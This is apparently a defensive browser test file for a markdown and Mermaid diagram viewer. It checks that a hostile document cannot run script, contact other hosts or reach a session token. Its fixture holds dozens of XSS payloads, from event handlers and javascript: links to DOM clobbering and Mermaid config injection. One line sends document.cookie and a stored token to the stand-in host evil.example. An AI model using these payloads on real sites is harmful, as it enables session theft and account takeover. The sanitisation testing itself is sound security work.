// Texts that mean harm. Nothing of them runs, nothing is asked of another host, and the token is
// where no text can reach it.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, describe, it } from "node:test";
import { backlog, closeBrowser, equals, start, task, until } from "./harness.mjs";

after(closeBrowser);

// Calls this if it ever runs: in whichever frame, it leaves a mark there and asks a host.
const run = "globalThis.pwned=1;top.pwned=1;fetch('https://evil.example/?'+document.cookie+sessionStorage.getItem('lode.token'))";

const hostile = (other) => `
<script>${run}</script>
<script src="https://evil.example/x.js"></script>
<img src="x" onerror="${run}">
<img src="https://evil.example/pixel.png" srcset="https://evil.example/2x.png 2x" onload="${run}">
<svg onload="${run}"><script>${run}</script><a xlink:href="javascript:${run}"><text>svg</text></a></svg>
<math><mtext></mtext><mi xlink:href="javascript:${run}">math</mi></math>
<iframe src="javascript:${run}" srcdoc="<script>${run}</script>"></iframe>
<object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<video src="https://evil.example/v" poster="https://evil.example/p" autoplay onplay="${run}"></video>
<audio src="https://evil.example/a" autoplay></audio>
<link rel="stylesheet" href="https://evil.example/l.css"><link rel="prefetch" href="https://evil.example/f">
<style>@import url("https://evil.example/i.css"); body { background: url(https://evil.example/bg) } * { display: none !important }</style>
<p id="styled" style="position:fixed;inset:0;background:url(https://evil.example/s)">styled</p>
<p class="bar pane notice dialog">dressed up</p>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<form action="https://evil.example/" method="post"><input name="token" type="text" autofocus onfocus="${run}"><input type="image" src="https://evil.example/img"><button formaction="https://evil.example/">send</button></form>
<input type="checkbox" onclick="${run}"><textarea>t</textarea><select><option>o</option></select>
<a name="body" id="getElementById">clobber</a><img name="cookie"><form id="location" name="createElement"></form><p id="app">app</p>
<details open ontoggle="${run}"><summary onclick="${run}">details</summary>x</details>
<marquee onstart="${run}">m</marquee><blink>b</blink><dialog open>d</dialog><template><script>${run}</script></template>
<!--<img src="--><img src=x onerror="${run}">
<div onmouseover="${run}" contenteditable tabindex="1">hover</div>

[js](javascript:${encodeURIComponent(run)}) [JS](JaVaScRiPt:alert(1)) [tab](java&#9;script:alert(1)) [slashes](javascript://x%0a${encodeURIComponent(run)})
[data](data:text/html,<script>${run}</script>) [vb](vbscript:x) [blob](blob:https://evil.example/x) <a href=" javascript:${run}">spaced</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">base64</a> <a href="//evil.example/">no scheme</a> <a href="https://evil.example/" ping="https://evil.example/ping" target="_self" rel="opener">tracked</a>

![data](data:image/svg+xml;base64,PHN2Zy8+) ![ref][evil] ![file](file:///etc/passwd) ![self](/mcp/resource?uri=lode://activity)

[evil]: https://evil.example/ref.png "title"

[another host](${other}/page)

\`\`\`mermaid
graph TD
  A["<img src=x onerror='${run}'>"] --> B["<script>${run}</script>"]
  B --> C[click me]
  click A "javascript:${run}"
  click B call alert()
  click C href "https://evil.example/click" _top
\`\`\`

\`\`\`mermaid
%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(https://evil.example/m.css); * { background: url(https://evil.example/m) }", "fontFamily": "x; background: url(https://evil.example/font)"}}%%
graph TD
  D["<iframe src='javascript:${run}'></iframe>"] --> E["<a href='javascript:${run}'>link</a>"]
  style D fill:url(https://evil.example/fill)
  classDef x background:url(https://evil.example/class)
  click D "javascript:${run}"
\`\`\`

\`\`\`html"><script>${run}</script>
<script>${run}</script>
\`\`\`

# <img src=x onerror="${run}"> heading

The end.

<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>
`;

describe("a hostile text", () => {
  let app;
  let page;
  let other;
  let visits;
  before(async () => {
    visits = [];
    other = createServer((request, response) => {
      visits.push({ url: request.url, headers: request.headers });
      response.setHeader("content-type", "text/html");
      response.end("<title>other</title><script>document.title = JSON.stringify([String(opener), document.referrer, location.href])</script>");
    });
    await new Promise((resolve) => other.listen(0, "127.0.0.1", resolve));
    const text = hostile(`http://127.0.0.1:${other.address().port}`);
    app = await start({
      files: { "docs/hostile.md": `---\ntitle: <img src=x onerror="${run.replaceAll('"', "'")}">\n---\n${text}`, ...backlog(task("TASK-0001", { title: "Harm" }, text)) },
    });
    page = await app.owner();
  });
  after(async () => {
    other.close();
    await app.stop();
  });

  // The policy's own words about styles that never came into the page are no complaint.
  const onlyPolicy = () => {
    const others = app.complaints.filter((text) => !/Content Security Policy directive/.test(text));
    app.complaints.length = 0;
    assert.deepEqual(others, []);
  };

  const marks = async () => Promise.all(page.frames().map((frame) => frame.evaluate(() => globalThis.pwned ?? null).catch(() => null)));

  for (const uri of ["mcp://backlog/resources/docs/hostile.md", "mcp://backlog/tasks/TASK-0001"]) {
    it(`does nothing at ${uri}`, async () => {
      const asked = [];
      page.on("request", (request) => asked.push(request.url()));
      await page.at(uri);
      const text = page.locator(".markdown").first();
      await text.getByText("The end.").waitFor();
      for (const diagram of await page.locator(".diagram").all()) await diagram.scrollIntoViewIfNeeded();
      await until(async () => (await page.locator(".diagram.drawn, .diagram .notice").count()) >= 2, "the diagrams");
      await text.getByText("hover").hover();
      await text.locator("summary").first().click();
      for (const link of await text.getByRole("link").all()) await link.hover({ trial: true, timeout: 500 }).catch(() => {});

      assert.deepEqual((await marks()).filter(Boolean), []);
      assert.deepEqual(asked.filter((url) => /evil\.example/.test(url)), []);
      onlyPolicy();

      const found = await text.evaluate((host) => {
        const all = [...host.querySelectorAll("*")];
        const attributes = all.flatMap((one) => [...one.attributes].map(({ name, value }) => [one.tagName, name, value]));
        return {
          tags: [...new Set(all.map((one) => one.tagName.toLowerCase()))],
          handlers: attributes.filter(([, name]) => /^on|^style$|^srcset$|^srcdoc$|^ping$|^name$|^action$|^formaction$|^contenteditable$/.test(name)),
          sources: attributes.filter(([tag, name, value]) => name === "src" && !(tag === "IMG" && value.startsWith("blob:")) && !(tag === "IFRAME" && value === "/frame/mermaid.html")),
          links: attributes.filter(([, name]) => name === "href").map(([, , value]) => value),
          classes: host.querySelectorAll(".bar, .pane, .dialog").length,
          inputs: [...host.querySelectorAll("input")].every((one) => one.type === "checkbox" && one.disabled),
        };
      });
      for (const tag of ["script", "style", "svg", "math", "object", "embed", "video", "audio", "link", "base", "meta", "form", "textarea", "select", "button", "dialog", "template", "marquee"]) {
        assert.ok(!found.tags.includes(tag), tag);
      }
      assert.deepEqual(found.handlers.filter(([tag, name]) => !(tag === "IFRAME" && name === "style")), []);
      assert.deepEqual(found.sources, []);
      assert.equal(found.classes, 0);
      assert.ok(found.inputs);
      for (const link of found.links) assert.match(link, /^(\/\?uri=|https?:\/\/)/);
      assert.equal(await text.getByText("hover").evaluate((one) => one.isContentEditable), false);

      // Nothing of the document was hidden by a name in the text.
      assert.deepEqual(await page.evaluate(() => [typeof document.getElementById, typeof document.cookie, typeof document.createElement, document.querySelectorAll("#app").length]), ["function", "string", "function", 1]);
    });

    it(`cannot reach the token at ${uri}`, async () => {
      await page.at(uri);
      await page.locator(".markdown").first().getByText("The end.").waitFor();
      const { token } = app;
      assert.ok(token.length > 20);
      assert.ok(!(await page.content()).includes(token));
      assert.ok(!page.url().includes(token));
      assert.deepEqual(await page.evaluate(() => [JSON.stringify(history.state) ?? "", document.cookie, JSON.stringify({ ...localStorage }), document.title]).then((all) => all.filter((one) => one.includes(token))), []);
      // It is kept for this tab, and for it alone.
      assert.equal(await page.evaluate((wanted) => Object.values({ ...sessionStorage }).includes(wanted), token), true);
      onlyPolicy();
    });
  }

  it("leads to another host without an opener or a referrer", async () => {
    await page.at("mcp://backlog/resources/docs/hostile.md");
    const link = page.getByRole("link", { name: "another host" });
    const [opened] = await Promise.all([page.context().waitForEvent("page"), link.click()]);
    await opened.waitForLoadState();
    await equals(async () => JSON.parse(await opened.title()).slice(0, 2), ["null", ""]);
    const { headers, url } = visits.find((visit) => visit.url === "/page");
    assert.equal(headers.referer, undefined);
    assert.ok(!JSON.stringify([headers, url]).includes(app.token));
    await opened.close();
    app.complaints.splice(0, app.complaints.length, ...app.complaints.filter((text) => !text.includes(`:${other.address().port}/`) && !/Content Security Policy directive/.test(text)));
  });

  it("cannot move the page out of the frame of a diagram", async () => {
    await page.at("mcp://backlog/resources/docs/hostile.md");
    await page.locator(".diagram.drawn").first().waitFor();
    const frame = await (await page.locator(".diagram.drawn iframe").first().elementHandle()).contentFrame();
    assert.deepEqual(await frame.evaluate(() => [...document.querySelectorAll("script:not([src]), foreignObject, iframe, image, [onclick], [onerror]")].map((one) => one.outerHTML)), []);
    assert.deepEqual(await frame.evaluate(() => [...document.querySelectorAll("a")].map((one) => one.getAttribute("href") ?? one.getAttribute("xlink:href")).filter(Boolean)), []);
    // Even what runs there is shut in.
    const tried = await frame.evaluate(async () => {
      const outcome = async (attempt) => {
        try {
          await attempt();
          return "worked";
        } catch {
          return "refused";
        }
      };
      return {
        storage: await outcome(() => sessionStorage.length),
        parent: await outcome(() => parent.document.title),
        network: await outcome(() => fetch("/mcp/resource?uri=lode://activity")),
        top: await outcome(() => {
          top.location = "https://evil.example/";
        }),
      };
    });
    assert.deepEqual(tried, { storage: "refused", parent: "refused", network: "refused", top: "refused" });
    assert.match(page.url(), new RegExp(`^${app.url}/`));
    app.complaints.length = 0;
  });
});
